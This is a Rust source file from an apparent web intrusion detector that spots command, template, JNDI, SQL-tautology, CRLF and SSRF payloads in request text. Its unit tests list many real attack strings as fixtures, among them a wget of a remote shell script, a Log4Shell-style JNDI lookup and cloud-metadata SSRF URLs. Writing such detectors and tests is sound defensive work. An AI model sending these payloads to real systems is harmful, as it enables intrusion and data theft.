//! Payloads a plain token cannot tell from ordinary text, judged by what
//! surrounds them: a shell command after a command separator (`;` alone is
//! ordinary), an expression inside template braces (`${amount}` is a price
//! template, `${7*7}` a probe), an URL in a parameter that names a local or
//! metadata host or a non-HTTP scheme, a quote tautology (`'or'a'='a`), a
//! line break followed by a response header. The words each check knows
//! come from the data (`data/payloads.toml`). Texts are decoded and
//! lowercase; every check is a bounded walk and never panics.

use super::knowledge::Knowledge;

/// The checks, in the order they are tried; their index is what a match
/// reports.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Check {
    Jndi,
    Template,
    Command,
    Tautology,
    Crlf,
    Ssrf,
}

impl Check {
    pub const ALL: [Check; 6] =
        [Check::Jndi, Check::Template, Check::Command, Check::Tautology, Check::Crlf, Check::Ssrf];

    pub fn category(self) -> &'static str {
        match self {
            Check::Jndi => "jndi",
            Check::Template => "template",
            Check::Command => "command",
            Check::Tautology => "sql",
            Check::Crlf => "crlf",
            Check::Ssrf => "ssrf",
        }
    }

    /// What was found, for a finding (never the attacker's text).
    pub fn describe(self) -> &'static str {
        match self {
            Check::Jndi => "nested ${jndi: lookup",
            Check::Template => "expression in template braces",
            Check::Command => "shell command after a separator",
            Check::Tautology => "quote tautology",
            Check::Crlf => "line break and response header",
            Check::Ssrf => "URL to a local, metadata or non-HTTP target",
        }
    }
}

/// Bytes a payload in a header value needs: a value holding none (a
/// browser's user agent, Accept, Accept-Language) is not looked at. `;`,
/// `(`, `:` and spaces are in every browser's headers, and no payload
/// needs them alone.
const HEADER_BYTES: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b"|$`{'<\\\0%&";
    let mut i = 0;
    while i < bytes.len() {
        t[bytes[i] as usize] = true;
        i += 1;
    }
    t
};

/// Whether a header value may hold a payload (see [`HEADER_BYTES`]).
pub fn may_hold_payload(value: &[u8]) -> bool {
    value.iter().any(|&c| HEADER_BYTES[c as usize])
}

/// Where a text came from: some checks only make sense in some places.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Place {
    Target,
    Header,
}

pub struct Checks {
    commands: Vec<String>,
    /// Commands that are also ordinary words (`cat`, `touch`): they count
    /// only with an argument shaped like a path, an option or a variable.
    worded: Vec<String>,
    markers: Vec<String>,
    schemes: Vec<String>,
    hosts: Vec<String>,
    crlf_headers: Vec<String>,
    redirect_params: Vec<String>,
}

/// Separators after which a command runs.
const SEPARATORS: &[&str] = &[";", "|", "&&", "$(", "`", "${ifs}", "\n", "\r"];
const SHELL_PATHS: &[&str] = &["/usr/local/bin/", "/usr/bin/", "/bin/", "/usr/sbin/", "/sbin/"];

impl Checks {
    pub fn new(k: &Knowledge) -> Self {
        Self {
            commands: k.commands.clone(),
            worded: k.worded_commands.clone(),
            markers: k.expression_markers.clone(),
            schemes: k.ssrf_schemes.clone(),
            hosts: k.ssrf_hosts.clone(),
            crlf_headers: k.crlf_headers.clone(),
            redirect_params: k.redirect_params.clone(),
        }
    }

    /// The first check `lower` fails.
    pub fn find(&self, lower: &str, place: Place) -> Option<Check> {
        Check::ALL.into_iter().find(|c| match c {
            Check::Jndi => lower.contains("${") && super::decode::hides_jndi(lower),
            Check::Template => self.template(lower),
            Check::Command => self.command(lower, place),
            Check::Tautology => tautology(lower),
            Check::Crlf => self.crlf(lower),
            Check::Ssrf => place == Place::Target && self.ssrf(lower),
        })
    }

    fn template(&self, s: &str) -> bool {
        for open in ["${", "#{", "%{", "*{", "{{"] {
            for (at, _) in s.match_indices(open) {
                let body = &s[at + 2..];
                let end = body.find('}').unwrap_or(body.len()).min(256);
                let inner = body.get(..end).unwrap_or(body);
                if self.markers.iter().any(|m| inner.contains(m.as_str())) || arithmetic(inner) {
                    return true;
                }
            }
        }
        false
    }

    fn command(&self, s: &str, place: Place) -> bool {
        for sep in SEPARATORS {
            // In a header, `;` separates parameters (`text/html;q=0.9`,
            // `(X11; U; Linux; id)`): only the unambiguous separators count.
            if place == Place::Header && matches!(*sep, ";" | "\n" | "\r") {
                continue;
            }
            for (at, _) in s.match_indices(sep) {
                if self.command_at(&s[at + sep.len()..]) {
                    return true;
                }
            }
        }
        false
    }

    /// Whether `rest`, the text after a separator, starts with a command.
    fn command_at(&self, rest: &str) -> bool {
        let mut r = rest;
        loop {
            let before = r.len();
            r = r.trim_start_matches([' ', '\t', '{', '(']);
            r = r.strip_prefix("${ifs}").or_else(|| r.strip_prefix("$ifs")).unwrap_or(r);
            if r.len() == before {
                break;
            }
        }
        for p in SHELL_PATHS {
            if let Some(x) = r.strip_prefix(p) {
                r = x;
                break;
            }
        }
        let len = r.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-').count();
        let (word, after) = r.split_at(len);
        if word.is_empty() {
            return false;
        }
        let ends = |c: Option<u8>| {
            c.is_none_or(|c| {
                matches!(
                    c,
                    b' ' | b'\t'
                        | b'$'
                        | b';'
                        | b'|'
                        | b'&'
                        | b'`'
                        | b')'
                        | b'<'
                        | b'>'
                        | b','
                        | b'\''
                        | b'"'
                        | b'}'
                        | b'\n'
                        | b'\r'
                )
            })
        };
        let next = after.bytes().next();
        if self.commands.iter().any(|c| c == word) {
            return ends(next);
        }
        if self.worded.iter().any(|c| c == word) && ends(next) {
            // `|id`, `;cat${IFS}x`, `; cat /etc/passwd`: not `| cat food`.
            if !matches!(next, Some(b' ' | b'\t')) {
                return true;
            }
            let arg = after.trim_start_matches([' ', '\t']);
            return arg.is_empty()
                || arg.starts_with(['/', '-', '.', '~', '$', '\'', '"', '>', '<', '|', ';', '`', '&'])
                || arg.bytes().next().is_some_and(|b| b.is_ascii_digit());
        }
        false
    }

    fn crlf(&self, s: &str) -> bool {
        for (at, _) in s.match_indices(['\r', '\n']) {
            let r = s[at + 1..].trim_start_matches(['\r', '\n', ' ', '\t']);
            let len = r.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'-').count();
            let (name, after) = r.split_at(len);
            if after.trim_start_matches([' ', '\t']).starts_with(':') && self.crlf_headers.iter().any(|h| h == name) {
                return true;
            }
        }
        false
    }

    fn ssrf(&self, s: &str) -> bool {
        // An absolute-form target's own authority is the request's, not a
        // parameter's (the hostile detector judges it).
        let from = if s.starts_with("http://") || s.starts_with("https://") {
            s.find("://").map_or(0, |i| i + 3 + s[i + 3..].find('/').unwrap_or(s.len() - i - 3))
        } else {
            0
        };
        let s = &s[from..];
        for (at, _) in s.match_indices("://") {
            let scheme_start =
                s[..at].rfind(|c: char| !(c.is_ascii_alphanumeric() || "+.-".contains(c))).map_or(0, |i| i + 1);
            let scheme = &s[scheme_start..at];
            if self.schemes.iter().any(|x| x == scheme) {
                return true;
            }
            let rest = &s[at + 3..];
            let authority = &rest[..rest.find(['/', '?', '#', '&', ' ', '\\']).unwrap_or(rest.len())];
            let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
            let host = if host_port.starts_with('[') {
                host_port.find(']').map_or(host_port, |e| &host_port[..=e])
            } else {
                host_port.split(':').next().unwrap_or(host_port)
            };
            let host = host.trim_end_matches('.');
            let local = self.hosts.iter().any(|h| h == host) || special_ip(host);
            if !local {
                continue;
            }
            // A native app's OAuth redirect comes back to loopback (RFC
            // 8252): a redirect parameter may name it. Metadata never.
            let loopback = !host.starts_with("169.254.") && !host.contains("metadata") && !host.contains("ec2");
            if loopback && self.redirect_param(&s[..scheme_start]) {
                continue;
            }
            return true;
        }
        false
    }

    /// Whether the parameter whose value starts at the end of `before` is
    /// a redirect target (`redirect_uri=`, `callback=`).
    fn redirect_param(&self, before: &str) -> bool {
        let Some(name) = before.strip_suffix('=') else { return false };
        let name = &name[name.rfind(['&', '?', ';']).map_or(0, |i| i + 1)..];
        self.redirect_params.iter().any(|p| name.contains(p.as_str()))
    }
}

/// 127.0.0.0/8 and 169.254.0.0/16, which lists of hosts cannot spell out.
fn special_ip(host: &str) -> bool {
    match host.parse::<std::net::Ipv4Addr>() {
        Ok(ip) => ip.is_loopback() || ip.is_link_local() || ip.is_unspecified(),
        Err(_) => false,
    }
}

/// `7*7`, `7 * '7'`: multiplication of digits, the template probe.
fn arithmetic(s: &str) -> bool {
    let b = s.as_bytes();
    b.iter().enumerate().any(|(i, &c)| {
        if c != b'*' {
            return false;
        }
        let before = b[..i].iter().rev().find(|c| **c != b' ').is_some_and(|c| c.is_ascii_digit());
        let after = b[i + 1..].iter().find(|c| !matches!(c, b' ' | b'\'' | b'"')).is_some_and(|c| c.is_ascii_digit());
        before && after
    })
}

/// A quote tautology: `or`/`and`/`xor` after a quote, a bracket or a
/// space, then two equal operands around `=` or `like` (`'or'a'='a`,
/// `' and '1'='1`, `"or"1"="1`, `or 1=1--`, `' or ''='`). The closing
/// quote of the last operand may be missing: the server's query adds it.
fn tautology(s: &str) -> bool {
    let b = s.as_bytes();
    for kw in ["or", "and", "xor"] {
        for (at, _) in s.match_indices(kw) {
            let prev = at.checked_sub(1).map(|i| b[i]);
            if !prev.is_none_or(|c| matches!(c, b' ' | b'\'' | b'"' | b')' | b'\t')) {
                continue;
            }
            let mut i = at + kw.len();
            if !b.get(i).is_some_and(|c| matches!(c, b' ' | b'\'' | b'"' | b'(' | b'\t')) {
                continue;
            }
            let skip = |i: &mut usize| {
                while b.get(*i).is_some_and(|c| matches!(c, b' ' | b'(' | b'\t')) {
                    *i += 1;
                }
            };
            skip(&mut i);
            let Some(left) = operand(b, &mut i, false) else { continue };
            skip(&mut i);
            if b.get(i) == Some(&b'=') {
                i += 1;
            } else if b[i..].starts_with(b"like") {
                i += 4;
            } else {
                continue;
            }
            skip(&mut i);
            if operand(b, &mut i, true).is_some_and(|right| right == left) {
                return true;
            }
        }
    }
    false
}

/// A quoted string, a number or a word at `i`, moving `i` past it. The
/// last operand may lack its closing quote.
fn operand<'a>(b: &'a [u8], i: &mut usize, last: bool) -> Option<&'a [u8]> {
    let start = *i;
    match b.get(start)? {
        &q @ (b'\'' | b'"') => {
            let len = b[start + 1..].iter().take(64).position(|&c| c == q);
            match len {
                Some(n) => {
                    *i = start + n + 2;
                    Some(&b[start + 1..start + 1 + n])
                }
                None if last => {
                    let n = b[start + 1..].iter().take_while(|c| c.is_ascii_alphanumeric()).count();
                    *i = start + 1 + n;
                    Some(&b[start + 1..start + 1 + n])
                }
                None => None,
            }
        }
        c if c.is_ascii_alphanumeric() => {
            let n = b[start..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
            *i = start + n;
            Some(&b[start..start + n])
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::decode::normalise;

    fn check(t: &str) -> Option<&'static str> {
        let c = Checks::new(&Knowledge::builtin());
        c.find(&normalise(t).to_lowercase(), Place::Target).map(Check::category)
    }

    #[test]
    fn probes_are_found() {
        for (t, want) in [
            ("/a?host=x;wget%20http://198.51.100.1/x.sh", "command"),
            ("/a?ip=127.0.0.1|id", "command"),
            ("/a?ip=1%26%26cat%20/etc/hostname", "command"),
            ("/a?ip=$(uname%20-a)", "command"),
            ("/a?ip=`whoami`", "command"),
            ("/a?ip=x;cat${IFS}/etc/hosts", "command"),
            ("/a?ip=x%0aid", "command"),
            ("/a?ip=x;/bin/sh%20-c%20x", "command"),
            ("/a?ip=x|busybox%20wget", "command"),
            ("/a?name=${7*7}", "template"),
            ("/a?name={{7*'7'}}", "template"),
            ("/a?name={{config.__class__}}", "template"),
            ("/a?name=%{(#_memberAccess['allowStaticMethodAccess']=true)}", "template"),
            ("/a?name=#{T(java.lang.Runtime).getRuntime()}", "template"),
            ("/a?x=${${lower:j}ndi:ldap://198.51.100.1/a}", "jndi"),
            ("/a?u='OR'a'='a", "sql"),
            ("/a?u=x'%20AND%20'1'='1", "sql"),
            ("/a?u=%22or%221%22=%221", "sql"),
            ("/a?id=1%20or%201=1--", "sql"),
            ("/a?u='%20or%20''='", "sql"),
            ("/a?next=%0d%0aSet-Cookie:%20a=b", "crlf"),
            ("/a?next=x%0aLocation:http://198.51.100.1/", "crlf"),
            ("/a?url=file:///etc/passwd", "ssrf"),
            ("/a?url=gopher://127.0.0.1:6379/_x", "ssrf"),
            ("/a?url=http://169.254.169.254/latest/meta-data/", "ssrf"),
            ("/a?url=http://metadata.google.internal/computeMetadata/v1/", "ssrf"),
            ("/a?url=http://[fd00:ec2::254]/latest/", "ssrf"),
            ("/a?url=http://[::1]:8080/admin", "ssrf"),
            ("/a?url=http://127.0.0.2/", "ssrf"),
            ("/a?url=https://0.0.0.0/", "ssrf"),
            ("/a?url=http%3A%2F%2Flocalhost%2Fadmin", "ssrf"),
            ("/a?url=http://evil@127.0.0.1/", "ssrf"),
            ("/a?redirect_uri=http://169.254.169.254/", "ssrf"),
        ] {
            assert_eq!(check(t), Some(want), "{t}");
        }
    }

    #[test]
    fn ordinary_text_stays_quiet() {
        for t in [
            "/search?q=O%27Brien",
            "/search?q=a%3Cb",
            "/search?q=rock+%26+roll",
            "/search?q=rock & roll",
            "/search?q=C%23",
            "/search?q=1%2B1",
            "/search?q=dogs+|+cat+food",
            "/search?q=kids;+sleep+tips",
            "/search?q=touch;+touch+screen",
            "/search?q=color+or+colour",
            "/search?q=a=1+or+b=2",
            "/search?q=%7B%22a%22%3A%7B%22b%22%3A1%7D%7D",
            "/render?tpl=Price%3A%20%24%7Bamount%7D%20incl.%20%24%7Btax%7D",
            "/render?tpl={{name}}+{{ order.total }}",
            "/contact?email=ann.o%27neil%40example.com",
            "/files/file..txt",
            "/items;jsessionid=ABC123?id=5",
            "/items;id=5",
            "/oauth/authorize?client_id=x&redirect_uri=http://127.0.0.1:8123/callback",
            "/oauth/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcb",
            "/link?url=https://example.org/page",
            "/api/v1/orders/42?sort=desc&limit=10",
            "/notes?text=line+one%0D%0Aline+two",
            "/calc?expr=6*7",
        ] {
            assert_eq!(check(t), None, "{t}");
        }
    }

    #[test]
    fn headers_do_not_split_on_semicolons() {
        let c = Checks::new(&Knowledge::builtin());
        let ua = "mozilla/5.0 (windows; u; windows nt 5.1; id; rv:1.9.2) gecko/20100101 firefox/3.6";
        assert_eq!(c.find(ua, Place::Header), None);
        assert_eq!(c.find("text/html;q=0.9,*/*;q=0.8", Place::Header), None);
        assert_eq!(c.find("() { :; }; /bin/bash -c 'x'", Place::Header), None, "shellshock is a token");
        assert_eq!(c.find("x$(curl 198.51.100.1)", Place::Header), Some(Check::Command));
    }
}
